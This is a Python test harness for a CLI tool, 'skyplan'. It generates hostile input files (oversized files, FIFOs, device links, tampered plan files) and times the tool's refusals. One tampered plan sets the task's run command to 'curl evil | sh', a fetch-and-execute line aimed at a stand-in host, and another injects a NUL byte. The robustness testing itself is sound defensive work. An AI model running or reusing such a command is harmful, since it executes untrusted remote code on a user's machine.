"""The hostile-input corpus and a measured runner for it.

Shared by the CLI test (``tests/cli/test_hostile_inputs.py``) and the bench
(``bench/hostile.py``). Each case is one file and the kind of file it poses as;
``commands`` gives the real commands that read that kind:

* task:     ``skyplan validate FILE`` and ``skyplan plan FILE``
* scenario: ``skyplan apply examples/hello.yaml --simulate FILE --yes``
  (refused while the scenario loads, before any stack exists)
* plan:     ``skyplan apply FILE --yes``

Static cases live in ``tests/fixtures/hostile/<kind>/``. ``build_corpus``
adds the ones that cannot be committed: 10 MB files, a FIFO, a directory,
``/dev/zero`` and ``/dev/urandom``, files just within the size limits, and
plan files made by the planner and then edited (hashes deleted, nulled or
stale). Every case must end with exit code 2.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

KINDS = ("task", "scenario", "plan")
MB = 1_000_000


@dataclass(frozen=True)
class Case:
    name: str  # "<kind>/<file name>"
    kind: str
    path: Path


@dataclass(frozen=True)
class Run:
    """One command on one case: its exit code, wall time and peak RSS (the child's own)."""

    case: Case
    args: tuple[str, ...]
    returncode: int
    seconds: float
    max_rss_bytes: int
    stdout: str
    stderr: str
    timed_out: bool = False


def skyplan_exe() -> str:
    """The installed console script next to this interpreter."""
    return str(Path(sys.executable).parent / "skyplan")


def commands(case: Case, repo: Path) -> list[list[str]]:
    f = str(case.path)
    if case.kind == "task":
        return [["validate", f], ["plan", f]]
    if case.kind == "scenario":
        return [["apply", str(repo / "examples" / "hello.yaml"), "--simulate", f, "--yes"]]
    return [["apply", f, "--yes"]]


# Forks and waits for the command from a fresh, small interpreter: a child's
# ru_maxrss includes what it held before exec, so a child forked straight from
# a big process (pytest, the bench with the corpus in memory) would report that
# process's size instead of its own.
_LAUNCHER = """
import os, sys
report = int(sys.argv[1])
pid = os.fork()
if pid == 0:
    os.close(report)
    os.execv(sys.argv[2], sys.argv[2:])
_, status, usage = os.wait4(pid, 0)
os.write(report, b"%d %d" % (os.waitstatus_to_exitcode(status), usage.ru_maxrss))
"""


def run(case: Case, args: list[str], home: Path, *, timeout_s: float = 30.0, cwd: Path | None = None) -> Run:
    """Run ``skyplan ARGS`` with SKYPLAN_HOME=``home``; the timeout only guards against a hang."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SKYPLAN_", "PULUMI_"))}
    env.update(SKYPLAN_HOME=str(home), PULUMI_CONFIG_PASSPHRASE="hostile-corpus")
    if "SKYPLAN_ENGINE_DIR" in os.environ:
        env["SKYPLAN_ENGINE_DIR"] = os.environ["SKYPLAN_ENGINE_DIR"]
    rfd, wfd = os.pipe()
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.monotonic()
        proc = subprocess.Popen(
            [sys.executable, "-S", "-c", _LAUNCHER, str(wfd), skyplan_exe(), *args],
            stdin=subprocess.DEVNULL, stdout=out, stderr=err, env=env, cwd=cwd,
            pass_fds=(wfd,), start_new_session=True,
        )
        os.close(wfd)
        try:
            proc.wait(timeout=timeout_s)
            timed_out = False
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, 9)  # the launcher and the command it started
            proc.wait()
            timed_out = True
        seconds = time.monotonic() - start
        with os.fdopen(rfd, "rb") as report:
            fields = report.read().split()
        code, rss_kib = (int(fields[0]), int(fields[1])) if len(fields) == 2 else (proc.returncode, 0)
        out.seek(0)
        err.seek(0)
        return Run(case, tuple(args), code, seconds, rss_kib * 1024,
                   out.read().decode("utf-8", "replace"), err.read().decode("utf-8", "replace"),
                   timed_out=timed_out)


# --- the corpus ---------------------------------------------------------------------


def static_cases(fixtures: Path) -> list[Case]:
    """The committed files under ``fixtures/<kind>/``."""
    return [Case(f"{kind}/{p.name}", kind, p) for kind in KINDS for p in sorted((fixtures / kind).iterdir())]


def build_corpus(fixtures: Path, scratch: Path, repo: Path) -> list[Case]:
    """Every case: the committed ones plus those generated under ``scratch``."""
    cases = static_cases(fixtures)
    for kind in KINDS:
        d = scratch / kind
        d.mkdir(parents=True, exist_ok=True)
        ext = ".json" if kind == "plan" else ".yaml"
        cases += _special_files(kind, d, ext)
        big = d / f"10mb{ext}"
        _write_big(big, kind, 10 * MB)
        cases.append(Case(f"{kind}/10mb{ext} (generated)", kind, big))
    cases += _within_limits(scratch, repo)
    cases += _edited_plans(scratch / "plan", repo)
    return cases


def _special_files(kind: str, d: Path, ext: str) -> list[Case]:
    fifo = d / f"fifo{ext}"
    if not fifo.exists():
        os.mkfifo(fifo)
    directory = d / f"directory{ext}"
    directory.mkdir(exist_ok=True)
    out = [Case(f"{kind}/fifo{ext} (generated)", kind, fifo), Case(f"{kind}/directory{ext} (generated)", kind, directory)]
    for dev in ("/dev/zero", "/dev/urandom"):
        if os.path.exists(dev):
            # A link with the kind's extension, so that apply takes it for a plan file.
            link = d / f"dev-{Path(dev).name}{ext}"
            if not link.is_symlink():
                link.symlink_to(dev)
            out.append(Case(f"{kind}/{dev} (via {link.name})", kind, link))
    return out


def _write_big(path: Path, kind: str, size: int) -> None:
    """About ``size`` bytes of plausible content for ``kind``."""
    with open(path, "w", encoding="utf-8") as f:
        if kind == "task":
            f.write("name: big\nrun: echo hi\nenvs:\n")
            i = 0
            while f.tell() < size:
                f.write(f"  VAR_{i}: value-{i}\n")
                i += 1
        elif kind == "scenario":
            f.write("default: ok\nrules:\n")
            while f.tell() < size:
                f.write("  - {cloud: gcp, zone: us-central1-a, outcome: capacity}\n")
        else:
            row = json.dumps({"rank": 1, "cloud": "gcp", "region": "us-central1", "zone": "us-central1-a",
                              "instance_type": "n1-highmem-8", "use_spot": False, "vcpus": 8, "memory_gib": 52,
                              "accelerators": {"V100": 1}, "hourly_price": 1.0, "hourly_cost": 1.0})
            f.write('{"format_version": 2, "candidates": [' + row)
            while f.tell() < size:
                f.write(", " + row)
            f.write("]}\n")


def _within_limits(scratch: Path, repo: Path) -> list[Case]:
    """Files just inside the size limits, so the parsers themselves are what is measured."""
    from skyplan.spec import bounded

    out = []
    # 49,000 findings (invalid env names), just within the value limit: once
    # printed one line each, now the first 50 and a count.
    task = scratch / "task" / "49000-errors.yaml"
    with open(task, "w", encoding="utf-8") as f:
        f.write("name: errors\nrun: echo hi\nenvs:\n")
        for i in range(49_000):
            f.write(f"  {i}bad: v\n")
    out.append(Case("task/49000-errors.yaml (generated)", "task", task))
    # Just under 1 MiB of scenario rules (within the value limit: long messages),
    # all read and checked, then refused for one misspelt key at the end.
    scen = scratch / "scenario" / "1mib-rules.yaml"
    message = "QUOTA_EXCEEDED " * 12
    with open(scen, "w", encoding="utf-8") as f:
        f.write("default: ok\nrules:\n")
        while f.tell() < bounded.SCENARIO.max_bytes - 400:
            f.write(f"  - {{zone: us-central1-a, outcome: quota, message: '{message}'}}\n")
        f.write("  - {zone: z, outcom: ok}\n")
    out.append(Case("scenario/1mib-rules.yaml (generated)", "scenario", scen))
    # A real plan padded with candidates to just under 8 MiB and its value limit:
    # read and parsed in full, then refused because its candidates were edited.
    plan = _real_plan(scratch / "plan", repo)
    row = plan["candidates"][0]
    row_text = json.dumps(row)
    values = row_text.count(",") + row_text.count("[") + row_text.count("{") + 1  # as the pre-scan counts
    n = min(bounded.PLAN.max_nodes // values - 100, bounded.PLAN.max_bytes // (len(row_text) + 8))
    plan["candidates"] = [dict(row, rank=i + 1) for i in range(n)]
    text = json.dumps(plan)
    while len(text) > bounded.PLAN.max_bytes - 1024:
        del plan["candidates"][-100:]
        text = json.dumps(plan)
    big = scratch / "plan" / "8mib-edited.json"
    big.write_text(text, encoding="utf-8")
    out.append(Case("plan/8mib-edited.json (generated)", "plan", big))
    return out


def _real_plan(d: Path, repo: Path) -> dict:
    """A plan of examples/hello.yaml, as `skyplan plan --out` writes it."""
    from skyplan.catalog import load_catalog
    from skyplan.planner import make_plan, write_plan
    from skyplan.spec import load_task

    d.mkdir(parents=True, exist_ok=True)
    path = d / "real-plan.json"
    if not path.exists():
        write_plan(make_plan(load_task(repo / "examples" / "hello.yaml"), load_catalog(None)), path)
    return json.loads(path.read_text(encoding="utf-8"))


def _edited_plans(d: Path, repo: Path) -> list[Case]:
    """A real plan, edited the ways an operator (or an attacker) might."""
    from skyplan.spec import task_from_dict, task_sha256

    base = _real_plan(d, repo)

    def edit(name: str, fn) -> Case:  # noqa: ANN001
        doc = copy.deepcopy(base)
        fn(doc)
        path = d / f"{name}.json"
        path.write_text(json.dumps(doc, indent=2), encoding="utf-8")
        return Case(f"plan/{name}.json (edited)", "plan", path)

    def rehash_task(doc: dict) -> None:
        doc["task_sha256"] = task_sha256(task_from_dict(doc["task"]))

    def nul_in_envs(doc: dict) -> None:
        doc["task"]["envs"]["INJECTED"] = "a\u0000b"
        rehash_task(doc)

    def big_machine(doc: dict) -> None:
        doc["candidates"][0]["instance_type"] = "n1-highmem-96"

    def many_gpus(doc: dict) -> None:
        doc["candidates"][0]["accelerators"] = {"V100": 1e30}

    return [
        edit("no-candidates-hash", lambda doc: (big_machine(doc), doc["request"].pop("candidates_sha256"))),
        edit("null-candidates-hash", lambda doc: (many_gpus(doc), doc["request"].update(candidates_sha256=None))),
        edit("no-request", lambda doc: (big_machine(doc), doc.pop("request"))),
        edit("stale-candidates-hash", big_machine),
        edit("no-task-hash", lambda doc: (doc["task"].update(run="curl evil | sh"), doc.pop("task_sha256"))),
        edit("null-task-hash", lambda doc: doc.update(task_sha256=None)),
        edit("null-catalog-hash", lambda doc: doc["catalog"].update(sha256=None)),
        edit("num-candidates-mismatch", lambda doc: doc["request"].update(num_candidates=1000)),
        edit("nul-in-task-envs", nul_in_envs),
    ]
